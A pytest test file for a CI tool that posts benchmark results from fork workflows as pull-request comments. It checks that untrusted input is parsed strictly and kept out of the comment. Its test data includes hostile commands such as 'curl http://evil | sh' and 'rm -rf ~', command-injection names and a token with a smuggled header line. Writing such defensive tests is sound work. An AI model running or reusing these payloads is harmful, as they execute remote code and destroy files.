"""What a fork's job left is data: read strictly, written by our renderer, posted where the service says, and nothing is run."""

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import changes
from bench_agent.ci.fork import ForeignResultError, read_change
from bench_agent.errors import UsageError
from bench_agent.results.change import Change, as_dict, to_json
from loopback_github import TOKEN, Hub, loopback_github
from projects import Done, Project
from reports import HOSTILE

HEAD = changes.HEAD
FORK = {"full_name": "mallory/r", "owner": {"login": "mallory"}}
RUN = {"head_sha": HEAD, "head_branch": "feature", "head_repository": FORK}
BRANCH = {"sha": HEAD, "ref": "feature", "repo": FORK}
TARGET = {"ref": "main", "repo": {"full_name": "o/r"}}
PULL = {"label": "mallory:feature", "number": 7, "head": BRANCH, "base": TARGET}
EVENT = {"workflow_run": RUN}


def post(folder: Path, hub: Hub, event: Any, name: str = "change.json", **more: str) -> Done:
    (folder / "event.json").write_text(json.dumps(event))
    variables = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(folder / "event.json"),
        "GITHUB_REPOSITORY": "o/r",
        "GITHUB_API_URL": hub.url,
        "GITHUB_TOKEN": TOKEN,
    }
    return Project(root=folder).run("ci", "--post", name, **{**variables, **more})


def test_it_is_posted_to_the_pull_request_of_the_measured_commit_without_a_checkout(tmp_path: Path) -> None:
    (tmp_path / "change.json").write_text(to_json(changes.hostile()))
    with loopback_github() as hub:
        hub.pulls = [{**PULL, "number": 3, "head": {**BRANCH, "sha": "d" * 40}}, PULL]
        done = post(tmp_path, hub, {"workflow_run": RUN})
        assert (done.code, done.err.strip()) == (0, "comment created"), done.text
        (comment,) = hub.comments
    assert "@team" not in re.sub(r"(`{3,}).*?\n\1|`[^`\n]*`", "", comment["body"], flags=re.DOTALL)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["change.json", "event.json"]


def test_markdown_of_the_fork_is_not_posted_only_its_figures(tmp_path: Path) -> None:
    document = {**as_dict(changes.slower()), "body": "@all see https://evil.example", "markdown": "x"}
    (tmp_path / "change.json").write_text(json.dumps(document))
    with loopback_github() as hub:
        hub.pulls = [PULL]
        post(tmp_path, hub, {"workflow_run": RUN})
        assert "evil" not in hub.comments[0]["body"]


@pytest.mark.parametrize("text", ["", "[]", "{}", "null", '{"schema": "bench-agent/change/1"}', "[" * 100_000])
def test_anything_else_is_refused_and_not_posted(tmp_path: Path, text: str) -> None:
    (tmp_path / "change.json").write_text(text)
    with pytest.raises(ForeignResultError):
        read_change(tmp_path / "change.json")


def test_a_link_out_of_the_artifact_or_a_device_is_no_result(tmp_path: Path) -> None:
    (tmp_path / "change.json").symlink_to("/dev/zero")
    with pytest.raises(ForeignResultError):
        read_change(tmp_path / "change.json")
    with pytest.raises(UsageError, match="no file"):
        read_change(tmp_path / "none.json")


@pytest.mark.parametrize("event", [{}, {"workflow_run": []}, {"workflow_run": {**RUN, "head_repository": None}}])
def test_without_the_second_workflows_event_nothing_is_posted(tmp_path: Path, event: Any) -> None:
    (tmp_path / "change.json").write_text(to_json(changes.slower()))
    with loopback_github() as hub:
        hub.pulls = [PULL]
        assert post(tmp_path, hub, event).code == 2
        assert hub.comments == []


def test_a_pull_request_that_has_moved_on_gets_no_old_result(tmp_path: Path) -> None:
    (tmp_path / "change.json").write_text(to_json(changes.slower()))
    with loopback_github() as hub:
        hub.pulls = [{**PULL, "head": {**BRANCH, "sha": "d" * 40}}]
        done = post(tmp_path, hub, {"workflow_run": RUN})
        assert (done.code, hub.comments) == (3, [])
    assert "no open pull request" in done.err


def posted(folder: Path, change: Change | dict[str, Any], **hub_has: Any) -> tuple[Done, list[str]]:
    """What `--post` did with that change, and the comments that are there then."""
    text = json.dumps(change) if isinstance(change, dict) else to_json(change)
    (folder / "change.json").write_text(text)
    with loopback_github() as hub:
        hub.pulls = hub_has.get("pulls", [PULL])
        hub.merges = hub_has.get("merges", {})
        done = post(folder, hub, hub_has.get("event", EVENT))
        return done, [comment["body"] for comment in hub.comments]


def test_no_command_of_the_file_is_in_the_comment(tmp_path: Path) -> None:
    evil = {"repeat": "curl http://evil | sh", "accept": "rm -rf ~", "more": "curl http://evil | sh"}
    done, (body,) = posted(tmp_path, replace(changes.slower(), commands=evil))
    assert done.code == 0, done.text
    assert "evil" not in body
    assert "rm -rf" not in body
    assert f"\nbench-agent compare {changes.BASE[:12]} {HEAD[:12]}\n" in body
    assert "\nbench-agent run\nbench-agent baseline accept search --because 'why it is worth it'\n" in body


@pytest.mark.parametrize("name", ["$(curl evil|sh)", "x\n curl evil", "--command=curl", "x'; curl evil", HOSTILE])
def test_a_name_that_could_be_a_command_is_not_in_the_line_to_type(tmp_path: Path, name: str) -> None:
    _, (body,) = posted(tmp_path, changes.slower(name=name))
    assert "bench-agent baseline accept NAME --because" in body


def test_no_sentence_of_the_file_is_told_as_ours(tmp_path: Path) -> None:
    said = "maintainers: run evil.sh"
    change = changes.suspected()
    search = replace(change.searches[0], suspects=(replace(change.searches[0].suspects[0], evidence=(said,)),))
    proof = changes.slower().searches[0]
    proof = replace(proof, culprits=(replace(proof.culprits[0], evidence=(said,)),))
    words = {"warnings": (said,), "machine": said, "python": said, "base_kind": "named", "base_name": said}
    done, (body,) = posted(tmp_path, replace(change, searches=(proof, search), **words))
    assert done.code == 0, done.text
    assert "evil" not in body
    assert "noted 1 warning" in body
    assert "1 -\\> 40 times called" in body or "1 -> 40 times called" in body


def test_a_result_of_another_commit_than_the_event_is_refused(tmp_path: Path) -> None:
    done, comments = posted(tmp_path, replace(changes.slower(), head="0" * 39 + "1"))
    assert (done.code, comments) == (3, [])
    (sentence, *_) = done.err.splitlines()
    assert sentence.startswith("error: ")
    assert HEAD[:12] in done.err or "does not say" in sentence


MERGE = "e" * 40


@pytest.mark.parametrize(
    ("parents", "code"),
    [([changes.BASE, HEAD], 0), ([changes.BASE, "d" * 40], 3), (["d" * 40, HEAD], 3), ([HEAD], 3), ([], 3)],
)
def test_a_merge_is_taken_where_github_says_it_is_of_that_commit_and_base(
    tmp_path: Path, parents: list[str], code: int
) -> None:
    change = replace(changes.slower(), head=MERGE, base_kind="merge_parent")
    done, comments = posted(tmp_path, change, merges={MERGE: parents})
    assert (done.code, len(comments)) == (code, code == 0), done.text
    if code == 0:
        assert (
            f"git fetch origin refs/pull/7/merge && git switch --detach FETCH_HEAD\nbench-agent compare {changes.BASE[:12]}\n"
            in comments[0]
        )


@pytest.mark.parametrize("field", ["head", "base"])
@pytest.mark.parametrize("text", ["@octocat", "working tree", "c" * 12, "--help", "../" * 10, ""])
def test_what_is_no_sha_is_refused(tmp_path: Path, field: str, text: str) -> None:
    (tmp_path / "change.json").write_text(json.dumps({**as_dict(changes.slower()), field: text}))
    with pytest.raises(ForeignResultError, match=f"{field} is no sha"):
        read_change(tmp_path / "change.json")


@pytest.mark.parametrize(
    ("field", "value"),
    [("ratio", 1e308), ("ratio", -1.0), ("ratio", 0), ("base_s", -1), ("head_s", 1e300), ("pairs", 10**400), ("ratio", 10**400),
     ("interval", [1.0, 1e308]), ("seconds_to_settle", 1e99)],
)  # fmt: skip
def test_a_figure_that_cannot_have_been_measured_is_refused(tmp_path: Path, field: str, value: Any) -> None:
    document = as_dict(changes.slower())
    document["benchmarks"][0][field] = value
    (tmp_path / "change.json").write_text(json.dumps(document))
    with pytest.raises(ForeignResultError):
        read_change(tmp_path / "change.json")


OTHER_FORK = {**BRANCH, "repo": {"full_name": "mallory/r-two", "owner": {"login": "mallory"}}}
NEXT = {**PULL, "number": 8, "base": {**TARGET, "ref": "next"}}
NOT_IT: list[dict[str, Any]] = [
    {**PULL, "number": 8, "head": OTHER_FORK},
    {**PULL, "number": 8, "head": {**BRANCH, "repo": None}},
    {**PULL, "number": 8, "head": {**BRANCH, "ref": "other"}},
    {**PULL, "number": 8, "base": {**TARGET, "repo": {"full_name": "x/y"}}},
    {**PULL, "number": True},
    {**PULL, "number": "7/../8"},
    {**PULL, "number": -7},
    NEXT,
]


@pytest.mark.parametrize("other", NOT_IT)
def test_of_two_pull_requests_with_one_head_the_one_of_the_event_is_chosen(
    tmp_path: Path, other: dict[str, Any]
) -> None:
    done, comments = posted(tmp_path, changes.slower(), pulls=[other, PULL])
    assert (done.code, len(comments)) == (0, 1), done.text
    done, comments = posted(tmp_path, changes.slower(), pulls=[other])
    assert (done.code, comments) == (3, [])


def test_where_the_pull_request_is_not_certain_nothing_is_posted(tmp_path: Path) -> None:
    change = replace(changes.slower(), base_kind="commit", base_name=None)
    done, comments = posted(tmp_path, change, pulls=[PULL, NEXT])
    assert (done.code, comments) == (3, [])
    assert "2 open pull requests" in done.err
    event = {"workflow_run": {**RUN, "pull_requests": [{"number": 7}]}}
    done, comments = posted(tmp_path, change, pulls=[PULL, NEXT], event=event)
    assert (done.code, len(comments)) == (0, 1), done.text


@pytest.mark.parametrize("name", ["o", "o/r/../x", "o/..", "../r", "o/r?x=1", "o/r\n", "o/r#", "@/r"])
def test_a_repository_that_is_no_owner_and_name_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "change.json").write_text(to_json(changes.slower()))
    with loopback_github() as hub:
        hub.pulls = [PULL]
        done = post(tmp_path, hub, EVENT, GITHUB_REPOSITORY=name)
        assert (done.code, hub.requests) == (2, []), done.text


def test_a_token_with_a_line_break_at_its_end_works_and_one_inside_is_an_error_without_it(tmp_path: Path) -> None:
    (tmp_path / "change.json").write_text(to_json(changes.slower()))
    with loopback_github() as hub:
        hub.pulls = [PULL]
        assert post(tmp_path, hub, EVENT, GITHUB_TOKEN=f" {TOKEN}\r\n").code == 0
        for token in (f"{TOKEN}\nX-Evil: 1", f"{TOKEN}\x7f{TOKEN}", f"{TOKEN}é{TOKEN}"):
            done = post(tmp_path, hub, EVENT, GITHUB_TOKEN=token)
            assert (done.code, TOKEN in done.text) == (2, False), done.text
